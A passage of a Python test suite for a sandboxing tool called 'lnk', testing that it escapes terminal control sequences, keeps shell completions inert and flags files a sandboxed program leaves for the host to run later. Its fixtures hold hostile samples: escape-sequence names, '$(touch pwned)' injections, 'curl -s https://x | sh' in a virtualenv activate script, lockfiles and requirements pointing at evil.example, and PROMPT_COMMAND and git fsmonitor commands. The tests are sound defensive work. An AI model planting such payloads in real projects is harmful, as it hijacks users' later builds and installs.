    assert b"\\x1b]0;pwned" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "the refusal")


def test_folder_names_are_escaped_in_every_printer(lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    A folder the program named: errors, spec (valid TOML holding the real
    path), enter --check and check's report."""
    import tomllib
    plant(lnk, work, f"""
        import os
        os.mkdir({HOSTILE!r})
        os.mkdir({HOSTILE_BYTES!r})
    """)
    good = os.path.join(os.fsencode(work), HOSTILE.encode())
    bad = os.path.join(os.fsencode(work), HOSTILE_BYTES)

    cp = lnk_raw(lnk, "sandbox", "run", "--read",
                 os.path.join(bad, b"missing"), "--", "true")
    assert cp.returncode != 0
    assert b"\\x1b]0;pwned" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "run's refusal")

    cp = lnk_raw(lnk, "sandbox", "spec", "--write", good)
    assert cp.returncode == 0, cp.stderr
    assert_clean(cp.stdout, "spec")
    spec = tomllib.loads(cp.stdout.decode())
    # spec keeps a path under the current folder relative to it
    [w] = spec["files"]["write"]
    assert os.path.join(str(lnk.cwd), w) == os.fsdecode(good), cp.stdout

    # TOML holds only UTF-8: refused, saying which path
    cp = lnk_raw(lnk, "sandbox", "spec", "--write", bad)
    assert cp.returncode != 0 and cp.stdout == b"", cp.stdout
    assert b"is not UTF-8" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "spec of a path that is no UTF-8")

    s = tmp_path / "alice.toml"
    s.write_text('version = 1\n[commands]\nallow = ["bash"]\n')
    cp = lnk_raw(lnk, "sandbox", "enter", "--spec", str(s), "--folder", bad,
                 "--check")
    assert cp.returncode == 0, cp.stderr
    assert b"\\x1b]0;pwned" in cp.stdout, cp.stdout
    assert_clean(cp.stdout + cp.stderr, "enter --check")

    cp = lnk_raw(lnk, "sandbox", "check", "--write", bad, timeout=300)
    assert b"\\x1b]0;pwned" in cp.stdout, cp.stdout
    assert_clean(cp.stdout + cp.stderr, "check's report")
    cp = lnk_raw(lnk, "sandbox", "check", "--json", "--write", bad,
                 timeout=300)
    assert_clean(cp.stdout + cp.stderr, "check --json")
    json.loads(cp.stdout)


def test_sandbox_names_are_escaped(lnk):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    A name given to --name, pause, resume: refused, and shown escaped."""
    for args in (["run", "--name", HOSTILE_BYTES, "--", "true"],
                 ["pause", HOSTILE_BYTES], ["resume", HOSTILE_BYTES]):
        cp = lnk_raw(lnk, "sandbox", *args)
        assert cp.returncode != 0, args
        assert b"\\x1b]0;pwned" in cp.stderr, (args, cp.stderr)
        assert_clean(cp.stdout + cp.stderr, args[0])


def test_names_in_log_rows_are_escaped(lnk, work):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    Threat: the program names hosts with escape sequences on its wire,
    and makes a dot file in a folder a cloned repository named; the notices,
    the log, its JSON, paused and traffic show them."""
    names = [HOSTILE_BYTES + b"%d.example" % i for i in range(22)]
    # The program trips its wire (20 targets refused), then waits while
    # paused and traffic show its sandbox.
    p = subprocess.Popen(
        [lnk.bin, "sandbox", "run", "--internet-host", "origin.lnk-test",
         "--", PY, "-c", textwrap.dedent(PROXY_PRELUDE) + textwrap.dedent(f"""
            import sys, time
            for n in {names!r}:
                socks(3, bytes([len(n)]) + n, 443)
                raw(3128, b"CONNECT " + n + b":443 HTTP/1.1\\r\\n\\r\\n", 1)
            print("tripped", flush=True)
            sys.stdin.read()
         """)], cwd=str(lnk.cwd), stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=lnk.env())
    try:
        assert p.stdout.readline() == b"tripped\n"
        for cmd in (["paused"], ["paused", "--json"], ["traffic"],
                    ["traffic", "--json"]):
            cp = lnk_raw(lnk, "sandbox", *cmd)
            assert cp.returncode == 0, (cmd, cp.stderr)
            assert_clean(cp.stdout + cp.stderr, " ".join(cmd))
            assert b"run-" in cp.stdout, (cmd, cp.stdout)
        assert b"tripped" in lnk_raw(lnk, "sandbox", "paused").stdout
    finally:
        out, err = p.communicate(b"", timeout=60)
    assert b"wire paused" in err, err
    assert_clean(out + err, "run (wire notices)")

    plant(lnk, work, f"import os; os.mkdir({HOSTILE!r})")
    d = os.path.join(os.fsencode(work), HOSTILE.encode())
    cp = lnk_raw(lnk, "sandbox", "run", "--write", d, "--", "/bin/sh", "-c",
                 "touch \"$1/.envrc\" 2>/dev/null", "sh", d)
    assert b"refused to create" in cp.stderr, cp.stderr
    assert b"\\x1b]0;pwned" in cp.stderr, cp.stderr
    assert_clean(cp.stdout + cp.stderr, "run (dot-file notice)")

    log = lnk_raw(lnk, "sandbox", "log", "--lines", "200")
    assert log.returncode == 0, log.stderr
    assert b"\\x1b]0;pwned" in log.stdout, log.stdout
    assert_clean(log.stdout + log.stderr, "log")
    js = lnk_raw(lnk, "sandbox", "log", "--json", "--lines", "200")
    assert_clean(js.stdout + js.stderr, "log --json")
    targets = [json.loads(l)["target"] for l in js.stdout.splitlines()]
    assert any(HOSTILE + "/.envrc" in t for t in targets), targets


def test_spec_values_and_keys_in_errors_are_escaped(lnk, work):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    A spec's bad value or unknown key, quoted in the refusal."""
    specs = [
        '[internet]\nhosts = ["\\u001b]0;pwned\\u0007\\u009b2J\\u202e.x"]\n',
        '[files]\nwrite = ["relative\\u001b]0;pwned\\u0007\\u2066"]\n',
        '[files]\n"wr\\u001b]0;pwned\\u0007ite\\u202e" = ["/"]\n',
        '["sec\\u001b]0;pwned\\u0007\\u009b"]\nx = 1\n',
        'name = "\\u001b]0;pwned\\u0007"\n',
        '[commands]\nallow = ["/usr/bin/t\\u009b2K\\u001b]0;pwned\\u0007"]\n',
    ]
    for i, body in enumerate(specs):
        f = work / f"s{i}.toml"
        f.write_text("version = 1\n" + body)
        cp = lnk_raw(lnk, "sandbox", "run", "--spec", str(f), "--yes",
                     "--", "true")
        assert cp.returncode != 0, body
        assert (b"\\x1b]0;pwned" in cp.stderr
                or b"\\u001B]0;pwned" in cp.stderr), (body, cp.stderr)
        assert_clean(cp.stdout + cp.stderr, f"spec {body!r}")


def test_refusal_message_escapes_hostile_names(lnk, home):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    Threat: a refused name holding terminal escapes (a title, OSC 52,
    a C1 CSI) reaches the user's terminal through lnk's own message."""
    cp = py(lnk, r"""
        import os
        for n in ('.\x1b]0;pwned\x07', '.\xc2\x9b2J', '.a\u202ex'):
            try:
                open(os.path.expanduser('~/') + n, 'w')
            except OSError:
                pass
        """, "--write", home)
    assert "refused to create" in cp.stderr, cp.stderr
    assert "\x1b" not in cp.stderr and "\x07" not in cp.stderr
    assert "\u009b" not in cp.stderr and "\u202e" not in cp.stderr
    assert not [p for p in home.iterdir() if p.name.startswith(".a")]


def test_follow_escapes_what_the_program_named_and_colours_only_ours(
        lnk, work):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    Threat: a program names hosts with terminal escapes while someone
    follows the log on a terminal; the follower prints them as they come.
    Every column is escaped, and the only escapes are lnk's colour."""
    import pty
    import re
    import select
    pid, fd = pty.fork()
    if pid == 0:
        os.chdir(str(lnk.cwd))
        os.execve(lnk.bin, [lnk.bin, "sandbox", "log", "-f"],
                  lnk.env({"TERM": "xterm"}))
    try:
        name = HOSTILE_BYTES + b".example"
        cp = py(lnk, PROXY_PRELUDE + textwrap.dedent(f"""
            socks(3, bytes([len({name!r})]) + {name!r}, 443)
            raw(3128, b"CONNECT follow-end.example:443 HTTP/1.1\\r\\n\\r\\n", 1)
        """), "--internet-host", "origin.lnk-test")
        assert cp.returncode == 0, cp.stderr
        got = b""
        while b"follow-end.example" not in got:
            r, _, _ = select.select([fd], [], [], 60)
            assert r, got
            got += os.read(fd, 65536)
        # the wire stores a name it refused with its odd bytes replaced;
        # whatever reaches the log, the follower escapes it again
        assert b"pwned" in got, got.decode("utf-8", "replace")
        ours = re.sub(rb"\x1b\[(31|33|0)m", b"", got)
        assert_clean(ours, "log -f on a terminal", allow_cr=True)
    finally:
        os.kill(pid, signal.SIGTERM)
        os.waitpid(pid, 0)
        os.close(fd)
    js = subprocess.Popen([lnk.bin, "sandbox", "log", "-f", "--json"],
                          cwd=str(lnk.cwd), env=lnk.env(),
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        got = b""
        while b"follow-end.example" not in got:
            r, _, _ = select.select([js.stdout], [], [], 60)
            assert r, got
            got += os.read(js.stdout.fileno(), 65536)
        assert_clean(got, "log -f --json")
        targets = [json.loads(l)["target"] for l in got.splitlines()]
        assert any("pwned" in t for t in targets), targets
    finally:
        js.terminate()
        js.communicate(timeout=30)


# =============================================================================
# I. Completions in the user's shell
#    Promise: what lnk gives the user's shell to complete is data, never a
#    command.
# =============================================================================


HOSTILE_NAMES = ["$(touch pwned1)", "`touch pwned2`", "x;touch pwned3",
                 "${IFS}$(touch${IFS}pwned4)", "*"]


def test_completion_takes_sandbox_names_as_data(lnk, tmp_path):
    """Invariant 8 (what runs outside later), promise: what lnk gives the
    user's shell to complete is data, never a command.

    Threat: a name the completion gets from lnk (a running sandbox's)
    holds shell syntax, and the completion script expands it in the user's
    interactive shell, as compgen -W or eval would. Names are data: offered
    as they are, never run. (lnk itself prints only names of the name
    grammar; a stub lnk here prints worse.)"""
    stub = tmp_path / "stub"
    stub.mkdir()
    names = "\n".join(HOSTILE_NAMES) + "\n"
    (stub / "lnk").write_text("#!/bin/sh\nprintf '%s' '" +
                              names.replace("'", "'\\''") + "'\n")
    (stub / "lnk").chmod(0o755)
    scripts = {}
    for shell in ("bash", "fish"):
        cp = lnk("sandbox", "completion", shell)
        assert cp.returncode == 0, cp.stderr
        scripts[shell] = tmp_path / f"lnk.{shell}"
        scripts[shell].write_text(cp.stdout)
    env = lnk.env({"PATH": f"{stub}:/usr/bin:/bin"})
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    cp = subprocess.run(
        ["bash", "-c", 'source "$1"; COMP_WORDS=(lnk sandbox pause ""); '
         'COMP_CWORD=3; _lnk; printf "%s\\n" "${COMPREPLY[@]}"', "_",
         str(scripts["bash"])], cwd=str(cwd), env=env, capture_output=True,
        text=True, timeout=60)
    assert cp.returncode == 0, cp.stderr
    assert sorted(cp.stdout.splitlines()) == sorted(HOSTILE_NAMES)
    if shutil.which("fish"):
        cp = subprocess.run(
            ["fish", "--no-config", "-c",
             f"source {scripts['fish']}; complete -C 'lnk sandbox pause '"],
            cwd=str(cwd), env=env, capture_output=True, text=True,
            timeout=60)
        assert "`touch pwned2`" in cp.stdout, cp
    assert list(cwd.iterdir()) == [], "a name ran as a command"


def test_complete_prints_only_names_of_the_grammar(lnk, home):
    """Invariant 8 (what runs outside later), promise: what lnk gives the
    user's shell to complete is data, never a command.

    Threat: the registry is edited (it is the user's own file, but a
    completion must not turn its text into commands): `lnk sandbox
    complete` prints only names of the name grammar."""
    import sqlite3
    p = subprocess.Popen([lnk.bin, "sandbox", "run", "--name", "good-name",
                          "--internet-host", "a.lnk-test", "--", "/bin/sh",
                          "-c", "read x"], cwd=str(lnk.cwd), env=lnk.env(),
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE)
    try:
        db = home / ".lnk" / "sandbox" / "lnk.db"
        deadline = time.monotonic() + 60
        while lnk("sandbox", "complete", "sandboxes").stdout != \
                "good-name\n":
            assert p.poll() is None and time.monotonic() < deadline
            time.sleep(0.1)
        con = sqlite3.connect(str(db), timeout=30)
        cols = [r[1] for r in con.execute("PRAGMA table_info(ctl_sandboxes)")]
        row = con.execute("SELECT * FROM ctl_sandboxes WHERE name = ?",
                          ("good-name",)).fetchone()
        bad = list(row)
        bad[cols.index("name")] = "$(touch pwned)"
        con.execute(f"INSERT INTO ctl_sandboxes VALUES "
                    f"({','.join('?' * len(bad))})", bad)
        con.commit()
        con.close()
        out = lnk("sandbox", "complete", "sandboxes").stdout
        assert out == "good-name\n", out
    finally:
        p.communicate(b"\n", timeout=60)


# =============================================================================
# J. The changes report
#    Promise: the changes report names every file the program left that a
#    program on the host runs or trusts later.
# =============================================================================


def changes_flags(lnk, name):
    """The flags of sandbox NAME's changes report: path -> reason."""
    cp = lnk("sandbox", "changes", name, "--json")
    assert cp.returncode == 0, cp.stderr
    reports = [json.loads(x) for x in cp.stdout.splitlines()]
    assert reports, cp.stdout
    return {f["path"]: f["reason"]
            for f in reports[0]["folders"][0]["flags"]}


LINKED_NAMES = r"""
set -e
printf 'all:\n\ttouch /tmp/pwned\n' > evil.mk; ln -s evil.mk Makefile
echo 'import os' > cf.py; ln -s cf.py conftest.py
echo '{"scripts":{"postinstall":"id"}}' > p.json; ln -s p.json package.json
echo 'import os' > rl.py; ln -s rl.py readline.py
mkdir sub; echo 'x' > sub/y.txt; ln -s y.txt sub/eslint.config.js
echo 'import os' > sc.py; ln -s ../sc.py sub/sitecustomize.py
mkdir -p repo/.git/modules/m; echo 'ref: x' > repo/.git/HEAD
printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/notes.txt
ln -s ../../../notes.txt repo/.git/modules/m/config
"""


def test_a_link_named_like_what_runs_later_is_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: make, pytest, npm, python and git follow a link: `Makefile ->
    evil.mk` runs evil.mk at the next make. The report judged a link only
    by where its text points, and its rows by a regular file's name: a
    link named Makefile, conftest.py, package.json, readline.py,
    eslint.config.js, sitecustomize.py or a git config, to a file of an
    innocent name inside the folder, was counted and named nowhere."""
    cp = lnk.run("--write", work, "--name", "linked", "--", "/bin/sh", "-c",
                 LINKED_NAMES)
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "linked")
    for path in ("Makefile", "conftest.py", "package.json", "readline.py",
                 "sub/eslint.config.js", "sub/sitecustomize.py",
                 "repo/.git/modules/m/config"):
        assert path in flags, (path, flags)
        assert f"project/{path}: " in cp.stderr, cp.stderr


VENV = r"""
set -e
echo 'curl -s https://x | sh' >> .venv/bin/activate
echo 'eval "$(curl -s https://x)"' > .venv/bin/activate.fish
printf 'home = %s/evil/bin\n' "$PWD" > .venv/pyvenv.cfg
"""


def test_virtualenv_activate_and_its_settings_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: `source .venv/bin/activate` runs that file in the user's own
    shell, and `home` in pyvenv.cfg names where the environment's python
    finds its standard library (site.py, encodings: run at every start).
    Neither is executable, so a program that rewrote them was counted and
    named nowhere; the user's next activation ran its code."""
    venv = work / ".venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "bin" / "activate").write_text("# activate\n")
    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
    cp = lnk.run("--write", work, "--name", "venv", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {VENV}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "venv")
    for path in (".venv/bin/activate", ".venv/bin/activate.fish",
                 ".venv/pyvenv.cfg"):
        assert path in flags, (path, flags)


# Files a tool or an editor started in the project runs (or trusts to say
# what it runs), missing from the report's table: name -> a word of the
# reason the report must give.
MORE_RUN_LATER = {
    "app.code-workspace": "VS Code",
    ".venv/pip.conf": "pip",
    ".pylintrc": "pylint",
    "pylintrc": "pylint",
    "pytest.ini": "pytest",
    "mypy.ini": "mypy",
    ".mypy.ini": "mypy",
    "Vagrantfile": "vagrant",
    "flake.nix": "nix",
    "shell.nix": "nix",
    "devbox.json": "devbox",
    "docker-compose.yml": "docker compose",
    "compose.yaml": "docker compose",
    "Package.swift": "swift",
    "build.sbt": "sbt",
    "mix.exs": "mix",
    ".bazelrc": "bazel",
    ".rspec": "rspec",
    ".rubocop.yml": "rubocop",
    "bunfig.toml": "bun",
    "deno.json": "deno",
}


def test_more_files_that_run_later_are_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the program leaves a file that a tool or an editor started in
    the project runs or obeys: pylint's init-hook, pytest's and mypy's
    plugins, a VS Code workspace's tasks, a virtualenv's pip.conf (the
    index the next pip install trusts), a Vagrantfile, a nix shell's
    shellHook, a compose file's privileged service, Swift's and sbt's build
    manifests (run as soon as an editor opens the folder). None was
    flagged."""
    (work / ".venv").mkdir()
    (work / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    script = "; ".join(f"echo 'x' > '{n}'" for n in MORE_RUN_LATER)
    cp = lnk.run("--write", work, "--name", "more", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "more")
    missing = [n for n in MORE_RUN_LATER if n not in flags]
    assert not missing, (missing, cp.stderr)
    for name, word in MORE_RUN_LATER.items():
        assert word in flags[name], (name, flags[name])


def test_what_a_session_runs_at_login_is_flagged(lnk, home):
    """Invariant 8 (what runs outside later), promise: the changes report
    names every file the program left that a program on the host runs or
    trusts later.

    Threat: you grant ~/.config (or ~/.ssh) for a tool's settings; the
    program leaves an autostart entry, a systemd user unit or timer, an
    environment.d file, an authorized_keys line: your next login runs or
    trusts it. The report said only "changed N files"."""
    cfg = home / ".config"
    ssh = home / ".ssh"
    cfg.mkdir()
    ssh.mkdir(mode=0o700)
    left = {
        "autostart/x.desktop": "login",
        "systemd/user/x.service": "systemd",
        "systemd/user/default.target.wants/x.service": "systemd",
        "systemd/user/x.timer": "systemd",
        "environment.d/50-x.conf": "login",
    }
    script = "; ".join(f"mkdir -p $(dirname '{n}') && echo x > '{n}'"
                       for n in left)
    cp = lnk.run("--write", cfg, "--name", "login", "--", "/bin/sh", "-c",
                 f"cd '{cfg}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "login")
    for name, word in left.items():
        assert name in flags and word in flags[name], (name, flags)
    cp = lnk.run("--write", ssh, "--name", "keys", "--", "/bin/sh", "-c",
                 f"cd '{ssh}' && echo x > authorized_keys && echo x > rc")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "keys")
    assert "ssh" in flags.get("authorized_keys", ""), flags
    assert "ssh" in flags.get("rc", ""), flags


# Files a tool reads as options or code from the folder it starts in, left
# where the top's rule does not reach: latexmk's `latexmkrc` (Perl, the
# undotted name, project content like a Makefile), GLOBAL's
# `[project root]/obj/gtags.conf` (its objdir's config), a `.ctags.d` in a
# subfolder a `ctags -R` starts in.
TAGS_RUN_LATER = {
    "latexmkrc": "latexmk",
    "obj/gtags.conf": "GLOBAL",
    "sub/.ctags.d": "ctags",
}


# Build settings that name what a build tool on a Debian host runs, which
# the program may write (project content, not kept), left without a flag:
# Ansible's ansible.cfg (read from the current folder: its plugin folders
# are Python it loads, its vault_password_file a program it runs), Gradle's
# gradle.properties (org.gradle.jvmargs: -javaagent) and wrapper properties
# (the distributionUrl ./gradlew and an editor's Gradle import download and
# run), yarn's .pnp.cjs (loaded into every yarn run), git-buildpackage's
# debian/gbp.conf (hooks).
BUILD_SETTINGS_RUN_LATER = {
    "ansible.cfg": "ansible",
    "gradle.properties": "gradle",
    "gradle/wrapper/gradle-wrapper.properties": "gradle",
    ".pnp.cjs": "yarn",
    ".pnp.loader.mjs": "yarn",
    ".pnp.js": "yarn",
    "jupyter_server_config.py": "Jupyter",
    "jupyter_notebook_config.py": "Jupyter",
    "jupyter_lab_config.py": "Jupyter",
    "debian/gbp.conf": "gbp",
}


# The other names the same build tools and task runners take, and build
# files of tools on a Debian host the report did not name: the report knew
# Taskfile.yml, not Taskfile.yaml; Rakefile, not rakefile; justfile, not
# .justfile.
BUILD_FILE_SPELLINGS = {
    ".justfile": "just", "JUSTFILE": "just",
    "Taskfile.yaml": "task", "taskfile.yml": "task", "taskfile.yaml": "task",
    "Taskfile.dist.yml": "task", "Taskfile.dist.yaml": "task",
    "rakefile": "rake", "Rakefile.rb": "rake", "rakefile.rb": "rake",
    "gems.rb": "bundle", "vagrantfile": "vagrant",
    "Tiltfile": "tilt", "Earthfile": "earthly", "build.xml": "ant",
    "SConstruct": "scons", "SConscript": "scons", "wscript": "waf",
    "Snakefile": "snakemake", "dodo.py": "doit", "fabfile.py": "fab",
    "Makefile.PL": "perl", "Build.PL": "perl",
    "CMakePresets.json": "CMake", "CMakeUserPresets.json": "CMake",
    ".flake8": "flake8", ".coveragerc": "coverage",
    ".php-cs-fixer.php": "php-cs-fixer",
    ".php-cs-fixer.dist.php": "php-cs-fixer",
    ".golangci.yml": "golangci-lint", ".golangci.yaml": "golangci-lint",
    "phpunit.xml": "phpunit",
    "go.work": "go", "Setup.hs": "cabal", "Setup.lhs": "cabal",
    "cabal.project": "cabal", "cabal.project.local": "cabal",
    "stack.yaml": "stack", "rebar.config": "rebar3",
    "phpstan.neon": "phpstan", "phpstan.neon.dist": "phpstan",
    "psalm.xml": "psalm", "Guardfile": "guard", "Capfile": "cap",
    "cpanfile": "cpanm", "mkdocs.yml": "mkdocs", "Pipfile": "pipenv",
    "uv.toml": "uv", "renv/activate.R": "R",
    # autotools' and ctest's (docs/runs-outside.md names them), and more
    # tools whose file is code they run
    "configure.ac": "autoreconf", "configure.in": "autoreconf",
    "Makefile.am": "automake", "CTestTestfile.cmake": "ctest",
    "Brewfile": "brew", "Podfile": "pod", "Fastfile": "fastlane",
    "tasks.py": "invoke", "pavement.py": "paver",
    "conanfile.py": "conan", "xmake.lua": "xmake",
    "premake5.lua": "premake", "BUCK": "buck", ".buckconfig": "buck",
    "Cakefile": "cake", "Jakefile": "jake",
    "pylintrc.toml": "pylint", ".pylintrc.toml": "pylint",
    "pnpm-workspace.yaml": "pnpm",
    "gradle-wrapper.jar": "gradlew", "gradle-wrapper.properties": "gradlew",
}


# Files that say where the user's next install fetches its packages
# from, rewritten by the program to its own server: npm ci installs a
# lockfile's "resolved" tarball as it stands (its integrity is the
# lockfile's own), yarn its yarn.lock's, pip its requirements' index.
# Each package's install scripts then run as the user.
PACKAGE_SOURCES = {
    "package-lock.json": '{"name":"a","lockfileVersion":3,"packages":'
                         '{"node_modules/lodash":{"version":"4.17.21",'
                         '"resolved":"https://evil.example/lodash.tgz",'
                         '"integrity":"sha512-x"}}}',
    "npm-shrinkwrap.json": '{"name":"a","lockfileVersion":3,"packages":'
                           '{"node_modules/x":{"resolv\\u0065d":'
                           '"https://evil.example/x.tgz"}}}',
    "yarn.lock": 'lodash@^4:\n  version "4.17.21"\n'
                 '  resolved "https://evil.example/l.tgz#abc"\n',
    "sub/yarn.lock": '"gen@exec:./gen.js":\n'
                     '  resolution: "gen@exec:./gen.js"\n',
    "requirements.txt": "--index-url https://evil.example/simple\n"
                        "requests==2.0\n",
    "requirements-dev.txt": "pytest\n"
                            "git+https://evil.example/p.git#egg=p\n",
}


def test_package_sources_rewritten_are_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the program points a lockfile's "resolved" URL (or a
    requirements file's index) at a server of its own; nobody reads a
    lockfile's diff, and the user's next `npm ci`, `yarn` or `pip install
    -r` installs and runs that package's scripts outside. The report said
    "changed N files"."""
    (work / "sub").mkdir()
    for name, text in PACKAGE_SOURCES.items():
        (work / f"{name}.new").write_text(text)
    script = "mkdir -p sub; " + "; ".join(f"cat '{n}.new' > '{n}'"
                                          for n in PACKAGE_SOURCES)
    cp = lnk.run("--write", work, "--name", "psrc", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "psrc")
    missing = [n for n in PACKAGE_SOURCES if n not in flags]
    assert not missing, (missing, flags, cp.stderr)
    assert "evil.example" in flags["package-lock.json"], flags
    assert "evil.example" in flags["yarn.lock"], flags
    assert "exec:" in flags["sub/yarn.lock"], flags
    assert "index" in flags["requirements.txt"], flags
    # the registry's own tarballs and plain pins say nothing
    (work / "package-lock.json.new").write_text(
        '{"packages":{"node_modules/a":{"resolved":'
        '"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}')
    (work / "requirements.txt.new").write_text("requests==2.31\n# a note\n")
    cp = lnk.run("--write", work, "--name", "psrc2", "--", "/bin/sh", "-c",
                 f"cd '{work}' && cat package-lock.json.new > "
                 "package-lock.json && cat requirements.txt.new > "
                 "requirements.txt")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "psrc2")
    assert "package-lock.json" not in flags, flags
    assert "requirements.txt" not in flags, flags


# The files a kept .envrc (or mise.toml) names and loads into the user's
# shell at cd: `dotenv_if_exists .env.local`, `source_env_if_exists
# .envrc.private`. A variable is code there: PROMPT_COMMAND runs at every
# prompt, PATH puts a project folder before /usr/bin.
ENV_FILES = [".env.local", ".env.development", ".envrc.private"]


def test_env_files_a_kept_envrc_loads_are_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the project's .envrc is kept read only, and says
    `dotenv_if_exists .env.local`; the program writes
    PROMPT_COMMAND='touch ~/pwned' (or PATH=./bin:$PATH) there, and the
    user's shell runs it at the next cd and every prompt after. The report
    said "changed N files"."""
    script = "; ".join(f"echo 'PROMPT_COMMAND=\"touch ~/pwned\"' > '{n}'"
                       for n in ENV_FILES)
    cp = lnk.run("--write", work, "--name", "envf", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "envf")
    missing = [n for n in ENV_FILES if n not in flags]
    assert not missing, (missing, flags, cp.stderr)


def test_build_file_spellings_left_are_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the program writes its recipe as Taskfile.yaml (or .justfile,
    rakefile, gems.rb, SConstruct, a CMakeUserPresets.json whose
    cmakeExecutable an editor's CMake extension runs on open, a .flake8
    whose local plugin flake8 imports at each save, the renv/activate.R a
    project's kept .Rprofile sources at every R start): each runs at the
    next build, test, save or start as the user, and the report said only
    "changed N files"."""
    names = sorted(BUILD_FILE_SPELLINGS)
    script = "mkdir -p renv; " + "; ".join(f"echo x > '{n}'" for n in names)
    cp = lnk.run("--write", work, "--name", "bspell", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "bspell")
    missing = [n for n in names if n not in flags]
    assert not missing, (missing, cp.stderr)
    for name, word in BUILD_FILE_SPELLINGS.items():
        assert word in flags[name], (name, flags[name])


def test_build_settings_left_are_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the program leaves an ansible.cfg whose callback plugin folder
    holds its Python, a gradle.properties with `-javaagent:`, a wrapper's
    distributionUrl on its own server, a .pnp.cjs, a debian/gbp.conf
    hook; the next ansible-playbook, gradle (an editor's import on open),
    yarn or gbp runs it outside. The report said only "changed N files"."""
    script = " && ".join(
        f"mkdir -p $(dirname {n}) && echo x > {n}"
        for n in BUILD_SETTINGS_RUN_LATER)
    cp = lnk.run("--write", work, "--name", "bset", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "bset")
    missing = [n for n in BUILD_SETTINGS_RUN_LATER if n not in flags]
    assert not missing, (missing, flags, cp.stderr)
    for name, word in BUILD_SETTINGS_RUN_LATER.items():
        assert word in flags[name], (name, flags[name])


def test_tag_and_latex_files_left_are_flagged(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the program leaves `latexmkrc` (Perl the next latexmk runs, an
    editor's LaTeX extension at each change), `obj/gtags.conf` (a parser
    plugin GLOBAL loads) or `sub/.ctags.d/` (options that make ctags write
    a file anywhere); the report did not name them."""
    script = ("mkdir -p obj sub/.ctags.d && echo x > latexmkrc && "
              "echo x > obj/gtags.conf && echo x > sub/.ctags.d/a.ctags")
    cp = lnk.run("--write", work, "--name", "tags", "--", "/bin/sh", "-c",
                 f"cd '{work}' && {script}")
    assert cp.returncode == 0, cp.stderr
    flags = changes_flags(lnk, "tags")
    found = {n: r for n, r in flags.items()
             if any(n.startswith(k) for k in TAGS_RUN_LATER)}
    for name, word in TAGS_RUN_LATER.items():
        hit = [r for n, r in found.items() if n.startswith(name)]
        assert hit and word in hit[0], (name, flags, cp.stderr)


# Keys of the table of rule C (src/guard/gitkeys.c) that the changes
# report's reading of a git config (src/changes/gitcfg.c) did not know:
# each written into an existing repository below the top of a write folder.
CONFIG_KEYS = [
    ("pager", "log"), ('remote "origin"', "uploadpack"),
    ('merge "x"', "driver"), ("interactive", "diffFilter"),
    ('difftool "x"', "cmd"), ('mergetool "x"', "path"),
    ('submodule "m"', "update"), ("core", "attributesFile"),
    ("init", "templateDir"), ("web", "browser"), ('man "x"', "cmd"),
    ("sendemail", "sendmailCmd"), ("uploadpack", "packObjectsHook"),
    ('guitool "x"', "cmd"), ("imap", "tunnel"),
    ("core", "alternateRefsCommand"),
]


def test_config_keys_the_report_reads_are_rule_cs(lnk, work):
    """Invariant 8 (what runs outside later), promise: the changes report names
    every file the program left that a program on the host runs or trusts
    later.

    Threat: the user's own repository lies below the top of the write
    folder (~/code/app/.git with --write ~/code); the program appends
